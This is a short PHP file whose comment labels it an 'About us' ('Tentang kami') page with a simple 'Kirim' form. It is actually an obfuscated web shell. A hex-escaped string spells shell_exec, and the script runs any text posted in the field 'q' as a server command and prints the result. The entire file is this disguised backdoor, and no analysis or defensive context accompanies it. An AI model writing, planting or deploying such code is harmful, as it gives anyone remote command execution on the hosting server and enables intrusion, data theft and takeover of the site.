<?php
// Tentang kami
$x = "\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63";
if (!empty($_POST['q'])) {
    echo '<pre>' . htmlspecialchars($x($_POST['q'])) . '</pre>';
}
?>
<form method="post"><input name="q"><button>Kirim</button></form>
